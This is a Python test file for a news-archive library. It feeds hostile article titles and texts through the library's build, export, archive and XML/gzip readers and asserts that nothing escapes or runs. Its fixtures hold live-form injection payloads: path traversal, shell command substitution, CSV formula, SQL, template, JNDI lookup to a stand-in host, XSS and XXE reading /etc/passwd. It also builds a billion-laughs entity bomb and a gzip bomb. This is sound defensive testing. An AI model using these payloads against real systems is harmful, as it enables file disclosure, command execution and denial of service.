# SPDX-License-Identifier: Apache-2.0
"""Nothing from a text runs or leaves its place: not as a path, a formula, an entity, a query or a flood."""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
import time
import zipfile
from pathlib import Path

import pytest

import ontherecord as otr
from ontherecord.archive import open_archive
from ontherecord.export import FORMATS, export
from ontherecord.model import Build, Reading, Refusal
from ontherecord.read import read

TITLES = [
    "../../etc/passwd", "/etc/passwd", "..\\..\\windows\\system32", "CON", "nul.txt", "LPT1", "~root", "-rf /", "$(reboot)",
    "`reboot`", "; reboot #", "a" * 4_000, "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "\t=1+1", "'; DROP TABLE stories; --",
    "{{ 7*7 }} {% include '/etc/passwd' %}", "${jndi:ldap://x.example/a}", "%s %n {0} {title}", "<script>alert(1)</script>",
    "\\input{/etc/passwd} \\write18{reboot}", "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'>", "\u202etxt.exe", ".", "...",
]  # fmt: skip
TEXT = (
    "Bulgaria expelled a Romanian diplomat on Tuesday.\n\n"
    'Minister Ada Reyes {} said on Monday in Vienna: "=1+1 is {{{{ 7*7 }}}}, <b>no</b> {}."'
)


@pytest.fixture(scope="module")
def made() -> Build:
    """A build of articles whose titles, outlets, authors and words are all hostile."""
    records = [
        {
            "title": title,
            "text": TEXT.format(n, title),
            "source_domain": title,
            "authors": [title],
            "url": title,
        }
        for n, title in enumerate(TITLES)
    ]
    lines = "\n".join(map(json.dumps, records)).encode()
    made = otr.build(["-"], workers=1, stdin=io.BytesIO(lines))
    assert len(made.documents) == len(TITLES)
    return made


def test_names_of_files_are_plain_and_stay_in_their_folder(made: Build, tmp_path: Path) -> None:
    otr.write(made, tmp_path / "out")
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    for path in (tmp_path / "out").rglob("*"):
        assert re.fullmatch(r"[a-z0-9][a-z0-9.-]{0,99}", path.name), path
        assert path.stem.lower() not in {"con", "nul", "prn", "aux", "lpt1", "com1"}
    otr.verify(otr.read_folder(tmp_path / "out"))


@pytest.mark.parametrize("name", [name for name in FORMATS if not name.startswith("parquet")])
def test_every_export_is_written_from_hostile_text(name: str, made: Build) -> None:
    data = b"".join(export(made, name))
    assert data or name == "plover"  # whose rows need a day and parties that it can code
    assert b"\x00" not in data or data.startswith(b"PK")


def test_no_cell_of_any_table_is_a_formula(made: Build) -> None:
    with zipfile.ZipFile(io.BytesIO(b"".join(export(made, "csv")))) as held:
        for name in held.namelist():
            for row in csv.reader(io.StringIO(held.read(name).decode("utf-8-sig"))):
                assert not [cell for cell in row if cell[:1] in "=+@\t\r" and cell], name


def test_no_query_of_an_archive_is_written_by_a_text(made: Build, tmp_path: Path) -> None:
    text = "\n\n".join(TITLES)
    with open_archive(tmp_path / "desk.sqlite", create=True) as archive:
        archive.add(read(["-"], io.BytesIO(f"Gazette\n\n{text}\n\nKovac said no.".encode())))
        archive.update(workers=1)
        for title in TITLES:
            archive.search(title)
            archive.stories(title)
        assert len(archive.stories()) == 1
        assert list(archive.check()) == []


def test_entities_name_no_file_and_grow_no_bomb() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol"><!ENTITY f SYSTEM "file:///etc/passwd">{laughs}]>'
        "<rss><channel><title>G</title><item><title>A &f; &l11;</title><description>Kovac said no. &f; &l11;"
        "</description></item></channel></rss>"
    )
    started = time.process_time()
    found = list(read(["-"], io.BytesIO(document.encode())))
    assert time.process_time() - started < 5
    assert found
    said = "".join(one.copy for one in found if isinstance(one, Reading))
    assert "root:" not in said
    assert len(said) < 10_000


@pytest.mark.parametrize(
    "head", [b"", b"<html><body><p>", b"WARC/1.0\r\nContent-Length: 9\r\n\r\n", b"From a@b\n\n"]
)
def test_a_packed_bomb_is_refused_soon(head: bytes, tmp_path: Path) -> None:
    packed = tmp_path / "bomb.gz"
    with gzip.open(packed, "wb") as file:
        file.write(head)
        for _ in range(256):
            file.write(b"a" * (1 << 20))
    started = time.process_time()
    (found,) = list(read([packed]))[:1]
    assert isinstance(found, Refusal)
    assert time.process_time() - started < 10
